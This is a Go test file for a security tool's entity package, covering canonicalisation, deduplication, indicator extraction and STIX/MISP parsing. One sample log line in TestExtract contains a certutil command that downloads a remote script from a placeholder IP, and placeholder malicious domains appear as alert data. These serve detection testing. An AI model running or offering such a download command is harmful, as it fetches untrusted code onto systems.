package entity

import (
	"os"
	"path/filepath"
	"slices"
	"testing"

	"github.com/securenexus/securenexus/internal/alert"
)

func TestCanonical(t *testing.T) {
	cases := []struct {
		t        alert.EntityType
		in, want string
		ok       bool
	}{
		{alert.EntityIP, " 10.0.0.1 ", "10.0.0.1", true},
		{alert.EntityIP, "000.111.222.10", "", false},
		{alert.EntityIP, "::ffff:192.0.2.1", "192.0.2.1", true},
		{alert.EntityIP, "FE80:0000:0000:0000:FADA:0CFF:FEDC:87F1", "fe80::fada:cff:fedc:87f1", true},
		{alert.EntityIP, "[2001:db8::1]", "2001:db8::1", true},
		{alert.EntityIP, "10.0.0.1:443", "10.0.0.1", true},
		{alert.EntityIP, "[2001:db8::2]:8443", "2001:db8::2", true},
		{alert.EntityIP, "fe80::1%eth0", "fe80::1%eth0", true},
		{alert.EntityIP, "2001:db8::zz", "", false},
		{alert.EntityIP, "deadbeef", "", false},
		{alert.EntityIP, "web-01", "", false},
		{alert.EntityIP, "0.0.0.0", "", false},
		{alert.EntityIP, "127.0.0.1", "", false},
		{alert.EntityIP, "::1", "", false},
		{alert.EntityIP, "ecs.amazonaws.com", "", false},
		{alert.EntityDomain, "WWW.Example.COM.", "www.example.com", true},
		{alert.EntityDomain, "*.domain.dev", "domain.dev", true},
		{alert.EntityDomain, "cmd.exe", "", false},
		{alert.EntityDomain, "GeneratedFindingDomainName", "", false},
		{alert.EntityDomain, "co.uk", "", false},
		{alert.EntityDomain, "foo.github.io", "foo.github.io", true},
		{alert.EntityDomain, "a..b.com", "", false},
		{alert.EntityHostname, "DESKTOP1111", "desktop1111", true},
		{alert.EntityHostname, "bad host", "", false},
		{alert.EntityURL, "HTTPS://WWW.Example.com/Cart?x=1", "https://www.example.com/Cart?x=1", true},
		{alert.EntityURL, "javascript:alert(1)", "", false},
		{alert.EntityURL, "http://", "", false},
		{alert.EntityEmail, "John.Doe@Example.com", "john.doe@example.com", true},
		{alert.EntityEmail, "john@localhost", "", false},
		{alert.EntityMD5, "DEBF08C09D49337FBE7ACDE4D3749242", "debf08c09d49337fbe7acde4d3749242", true},
		{alert.EntitySHA1, "0000000000000000000000000000000000000000", "", false},
		{alert.EntitySHA256, "xyz", "", false},
		{alert.EntityUser, "N/A", "", false},
		{alert.EntityUser, `NT AUTHORITY\SYSTEM`, `NT AUTHORITY\SYSTEM`, true},
		{alert.EntityCloudID, "/subscriptions/ABC/resourceGroups/RG", "/subscriptions/abc/resourcegroups/rg", true},
		{TypeCIDR, "58.246.0.1/15", "58.246.0.0/15", true},
		{alert.EntityUser, "bad\xffutf8", "", false},
	}
	for _, c := range cases {
		got, ok := Canonical(c.t, c.in)
		if ok != c.ok || got != c.want {
			t.Errorf("Canonical(%s, %q) = %q, %v; want %q, %v", c.t, c.in, got, ok, c.want, c.ok)
		}
	}
}

func TestSetDedupeAndRoles(t *testing.T) {
	var s Set
	s.Add(alert.EntityIP, "10.0.0.1", RoleSrc)
	s.Add(alert.EntityIP, "10.0.0.1", RoleSrc)
	s.Add(alert.EntityIP, "10.0.0.1", RoleDst)
	s.Scan("from 10.0.0.1 to 10.0.0.2")
	s.Add(alert.EntityIP, "10.0.0.2", RoleDst) // upgrades the related one
	s.Add(alert.EntityHostname, "10.0.0.3", RoleHost)
	s.Add(alert.EntityURL, "http://evil.example.org/x", RoleDst)
	want := []alert.Entity{
		{Type: "ip", Value: "10.0.0.1", Role: "src"}, {Type: "ip", Value: "10.0.0.1", Role: "dst"},
		{Type: "ip", Value: "10.0.0.2", Role: "dst"}, {Type: "ip", Value: "10.0.0.3", Role: "host"},
		{Type: "url", Value: "http://evil.example.org/x", Role: "dst"}, {Type: "domain", Value: "evil.example.org", Role: "related"},
	}
	if !slices.Equal(s.Entities(), want) {
		t.Errorf("got %+v\nwant %+v", s.Entities(), want)
	}
	if !s.Has(alert.EntityURL) || s.Has(alert.EntityEmail) || s.Len() != 6 {
		t.Error("Has/Len")
	}
}

func TestExtract(t *testing.T) {
	text := `User admin@Corp.example.com ran "C:\Windows\System32\cmd.exe /c certutil -urlcache -f hxxp://198.51.100.23:8080/p.ps1 out.exe"
		from 000.111.222.10 and fe80::1; beacon to update.evil-cdn.net and malware.zip.
		hash=44D88612FEA8A8F36DE82E1278ABB02F sha256 275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f
		zero 0000000000000000000000000000000000000000 arn:aws:iam::123456789012:user/alice i-0abc123def4567890
		/subscriptions/00000000-1111-2222-3333-444444444444/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/vm1
		//compute.googleapis.com/projects/p/zones/z/instances/vm visit https://Docs.Example.org/a(b)?c=1. readme.md report.pdf
		time 10:52:01 version 1.2.3 v2.0`
	got := Extract(text)
	want := []alert.Entity{
		{Type: "email", Value: "admin@corp.example.com", Role: "related"},
		{Type: "url", Value: "hxxp://198.51.100.23:8080/p.ps1", Role: "related"},
		{Type: "ip", Value: "198.51.100.23", Role: "related"},
		{Type: "ip", Value: "fe80::1", Role: "related"},
		{Type: "domain", Value: "update.evil-cdn.net", Role: "related"},
		{Type: "md5", Value: "44d88612fea8a8f36de82e1278abb02f", Role: "related"},
		{Type: "sha256", Value: "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f", Role: "related"},
		{Type: "cloud_resource", Value: "arn:aws:iam::123456789012:user/alice", Role: "related"},
		{Type: "cloud_resource", Value: "i-0abc123def4567890", Role: "related"},
		{Type: "cloud_resource", Value: "/subscriptions/00000000-1111-2222-3333-444444444444/resourcegroups/rg/providers/microsoft.compute/virtualmachines/vm1", Role: "related"},
		{Type: "cloud_resource", Value: "//compute.googleapis.com/projects/p/zones/z/instances/vm", Role: "related"},
		{Type: "url", Value: "https://docs.example.org/a", Role: "related"},
		{Type: "domain", Value: "docs.example.org", Role: "related"},
	}
	if !slices.Equal(got, want) {
		t.Errorf("Extract:\n got %+v\nwant %+v", got, want)
	}
}

func count(inds []Indicator) map[alert.EntityType]int {
	m := map[alert.EntityType]int{}
	for _, i := range inds {
		m[i.Type]++
	}
	return m
}

func fixture(t *testing.T, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", "fixtures", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestParseSTIXFixture reads a STIX 2.1 bundle written from the OASIS
// specification's examples: CIDR, hash OR-comparison with a quoted path,
// AND of domain and URL, a MATCHES pattern kept whole, a bare observable.
func TestParseSTIXFixture(t *testing.T) {
	inds, err := ParseSTIX(fixture(t, "stix_bundle.json"))
	if err != nil {
		t.Fatal(err)
	}
	c := count(inds)
	if c[TypeCIDR] != 1 || c[alert.EntitySHA256] != 1 || c[alert.EntityMD5] != 1 || c[alert.EntityDomain] != 1 ||
		c[alert.EntityURL] != 1 || c[TypeSTIXPattern] != 1 || c[alert.EntityIP] != 1 || len(inds) != 7 {
		t.Errorf("counts %v (%d): %+v", c, len(inds), inds)
	}
	if !slices.ContainsFunc(inds, func(i Indicator) bool {
		return i.Type == TypeCIDR && i.Value == "198.51.100.0/24" && i.SourceID == "indicator--8e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f" && i.Detect
	}) {
		t.Errorf("missing CIDR: %+v", inds)
	}
	if !slices.ContainsFunc(inds, func(i Indicator) bool {
		return i.Type == alert.EntitySHA256 && i.Value == "aec070645fe53ee3b3763059376134f058cc337247c978add178b6ccdfb0019f"
	}) {
		t.Errorf("missing quoted-path SHA-256: %+v", inds)
	}
}

// TestParseMISPFixture reads a MISP event written from the MISP core
// format: attributes, composite domain|ip, object attributes, to_ids false,
// context types skipped, event tags as labels.
func TestParseMISPFixture(t *testing.T) {
	inds, err := ParseMISP(fixture(t, "misp_event.json"))
	if err != nil {
		t.Fatal(err)
	}
	c := count(inds)
	if c[alert.EntityIP] != 2 || c[alert.EntityDomain] != 1 || c[alert.EntityMD5] != 1 || c[alert.EntitySHA256] != 1 ||
		c[alert.EntityURL] != 1 || c[TypeRegistryKey] != 1 || c[alert.EntityFile] != 1 || c[alert.EntitySHA1] != 1 || len(inds) != 9 {
		t.Errorf("counts %v (%d): %+v", c, len(inds), inds)
	}
	for _, i := range inds {
		if i.Type == alert.EntityURL && i.Detect {
			t.Errorf("to_ids false kept Detect: %+v", i)
		}
		if i.Value == "seen in March" {
			t.Errorf("comment attribute became an indicator")
		}
	}
	if !slices.ContainsFunc(inds, func(i Indicator) bool { return i.Value == "192.0.2.45" && slices.Contains(i.Labels, "tlp:green") }) {
		t.Errorf("event tags not labels: %+v", inds)
	}
	wrapped := append(append([]byte(`{"response":[`), fixture(t, "misp_event.json")...), []byte(`]}`)...)
	if got, err := ParseMISP(wrapped); err != nil || len(got) != len(inds) {
		t.Errorf("response envelope: %d, %v", len(got), err)
	}
}

// TestExtractAddressesWithPorts reads addresses written with a port or an
// interface in free text (ASA, Snort, sshd), never a CIDR network or a
// clock time.
func TestExtractAddressesWithPorts(t *testing.T) {
	cases := map[string][]string{
		"Deny tcp src outside:198.51.100.23/51515 dst inside:10.10.1.20/22": {"198.51.100.23", "10.10.1.20"},
		"{TCP} 192.0.2.55:49152 -> 198.51.100.210:80":                       {"192.0.2.55", "198.51.100.210"},
		"peer=203.0.113.7:443 and [2001:db8::7]:8443":                       {"203.0.113.7", "2001:db8::7"},
		"route 10.0.0.0/8 via 192.0.2.0/24 at 10:52:01":                     nil,
	}
	for text, want := range cases {
		var got []string
		for _, e := range Extract(text) {
			if e.Type == alert.EntityIP {
				got = append(got, e.Value)
			}
		}
		if !slices.Equal(got, want) {
			t.Errorf("Extract(%q) IPs = %q, want %q", text, got, want)
		}
	}
}
